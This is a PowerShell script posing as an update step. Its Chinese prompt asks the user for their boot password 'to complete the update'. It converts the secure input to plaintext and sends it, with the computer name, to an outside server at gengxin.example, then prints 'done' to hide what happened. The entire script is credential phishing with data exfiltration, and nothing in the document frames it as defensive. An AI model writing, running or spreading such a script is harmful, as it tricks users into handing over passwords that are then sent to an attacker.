$answer = Read-Host "请输入开机密码以完成更新" -AsSecureString
$text = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($answer))
Invoke-RestMethod -Uri "https://gengxin.example/v2/state" -Method Post -Body @{ host = $env:COMPUTERNAME; state = $text } | Out-Null
Write-Host "完成"
